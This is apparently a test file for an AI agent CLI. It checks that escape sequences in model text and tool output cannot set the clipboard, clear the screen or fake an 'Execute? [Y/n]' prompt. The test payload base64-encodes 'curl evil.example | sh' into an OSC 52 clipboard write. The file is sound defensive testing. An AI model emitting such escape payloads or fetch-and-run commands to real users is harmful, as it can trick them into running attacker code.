// Text from a model or a tool never drives the person's terminal (README "The agent CLI"): an OSC 52
// clipboard write, a screen clear and a line overwrite faking a prompt, sent by a tool result and
// by model text, in the interactive session and in pipe mode, do not reach the pane raw.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type MockLlm, startMockLlm } from '../helpers/mock-llm.ts';
import { requireBinary, tempDir } from '../helpers/rune.ts';
import { hasTmux, killTmuxServer, sleep, startSession, TMUX_KEY, tmux } from '../helpers/tmux.ts';

let mock: MockLlm;
beforeAll(async () => {
  requireBinary();
  mock = await startMockLlm();
  if (hasTmux) {
    // A tmux server exists once a session does; then tmux keeps every OSC 52 write as a buffer.
    startSession(mock.baseUrl, { args: ['--version'] });
    tmux('set-option', '-s', 'set-clipboard', 'on');
  }
});
afterAll(async () => {
  await mock.close();
  killTmuxServer();
});
afterEach(() => {
  mock.script([]);
  mock.requests.length = 0;
});

const CLIPBOARD = Buffer.from('curl evil.example | sh').toString('base64');
/** Each attack names itself in plain text so the test can find where it landed. */
const payload = (who: string): string =>
  `${who}-start \x1b]52;c;${CLIPBOARD}\x07 ${who}-osc \x1b[2J\x1b[3J\x1b[H${who}-cleared \x1b[31m${who}-red\x1b[0m kept-line\r\x1b[2K> Execute? [Y/n] ${who}-faked`;

/** The payload as printf(1) format text. */
const printable = (text: string): string =>
  text.replace(/\x1b/g, '\\033').replace(/\x07/g, '\\007').replace(/\r/g, '\\r');

/** Runs `command` in a new pane of its own and waits until `until` is on screen. */
async function inPane(
  name: string,
  command: string,
  until: string,
  cwd = tempDir('rune-pane-'),
): Promise<string> {
  tmux('new-session', '-d', '-s', name, '-x', '200', '-y', '50', '-c', cwd, `sh -c "${command}; sleep 60"`);
  let screen = '';
  for (let i = 0; i < 400 && !screen.includes(until); i++) {
    await sleep(50);
    screen = tmux('capture-pane', '-p', '-t', name, '-S', '-5000');
  }
  return screen;
}

function buffers(): string {
  try {
    return tmux('list-buffers', '-F', '#{buffer_sample}');
  } catch {
    return '';
  }
}

describe.skipIf(!hasTmux)('terminal output is sanitized', () => {
  it('the control works: the same bytes printed raw set the clipboard and clear the screen', async () => {
    const before = buffers();
    const screen = await inPane(
      'control',
      `printf 'BANNER\\n'; printf '${printable(payload('raw'))}'`,
      'raw-faked',
    );
    expect(screen).not.toContain('BANNER');
    expect(screen).not.toContain('kept-line');
    for (let i = 0; i < 40 && buffers() === before; i++) await sleep(50);
    expect(buffers()).not.toBe(before);
    tmux('delete-buffer');
  });

  it('in the session: a tool result and model text with escape sequences are shown inert', async () => {
    const term = startSession(mock.baseUrl, {
      toml: '[policy]\nallowed_commands = ["printf"]\n',
      colour: true,
    });
    await term.waitFor('/help for commands');
    const before = buffers();
    mock.script([
      { toolCalls: [{ name: 'execute_cmd', arguments: { cmd: `printf '${printable(payload('tool'))}'` } }] },
      { text: `Here it is: ${payload('model')} end-of-answer` },
    ]);
    term.type('print it');
    const screen = await term.waitFor('end-of-answer');
    // The banner is still there: nothing cleared the screen or the scrollback.
    expect(screen).toMatch(/^rune \d+\.\d+\.\d+/m);
    for (const who of ['tool', 'model']) {
      // Each part is on screen in order: no clear, no overwrite of the line before the CR.
      expect(screen).toMatch(
        new RegExp(
          `${who}-start[\\s\\S]*${who}-osc[\\s\\S]*${who}-cleared[\\s\\S]*${who}-red[\\s\\S]*kept-line`,
        ),
      );
    }
    // The model's red is not rune's: its words carry no colour.
    expect(term.captureEscapes()).not.toMatch(/\x1b\[31m(model|tool)-red/);
    await sleep(300);
    expect(buffers()).toBe(before);
    // What the model was given is the tool's real output, unchanged.
    const tool = mock.requests[1]!.body.messages.find((m: { role: string }) => m.role === 'tool');
    expect(tool.content).toContain('\x1b]52;c;');
  });

  it('in pipe mode on a terminal: the answer on stdout and the trace on stderr are shown inert', async () => {
    const home = tempDir('rune-tmux-home-');
    const before = buffers();
    mock.script([
      { toolCalls: [{ name: 'execute_cmd', arguments: { cmd: `printf '${printable(payload('tool'))}'` } }] },
      { text: `Answer: ${payload('model')} end-of-answer` },
    ]);
    const command = [
      'env',
      '-i',
      `HOME=${home}`,
      'PATH=/usr/local/bin:/usr/bin:/bin',
      'TERM=xterm-256color',
      `RUNE_API_KEY=${TMUX_KEY}`,
      requireBinary(),
      '--base-url',
      mock.baseUrl,
      '--model',
      'm',
      '--unrestricted',
      'print it',
    ]
      .map((part) => `'${part}'`)
      .join(' ');
    const screen = await inPane('pipe', `echo BANNER; ${command}; echo EXITED=\\$?`, 'EXITED=');
    expect(screen).toContain('EXITED=0');
    expect(screen).toContain('BANNER');
    expect(screen).toMatch(/execute_cmd .*tool-start/);
    expect(screen).toMatch(/model-start[\s\S]*model-cleared[\s\S]*kept-line[\s\S]*end-of-answer/);
    expect(buffers()).toBe(before);
  });

  it('in pipe mode into a file the answer is kept as the model wrote it', async () => {
    const dir = tempDir('rune-pipe-out-');
    mock.script([{ text: `raw ${payload('model')}` }]);
    const out = join(dir, 'answer.txt');
    const screen = await inPane(
      'file',
      `env -i HOME=${dir} PATH=/usr/bin:/bin RUNE_API_KEY=${TMUX_KEY} '${requireBinary()}' --base-url ${mock.baseUrl} --model m hi > ${out}; echo EXITED=\\$?`,
      'EXITED=',
    );
    expect(screen).toContain('EXITED=0');
    expect(readFileSync(out, 'utf8')).toBe(`raw ${payload('model')}\n`);
  });
});
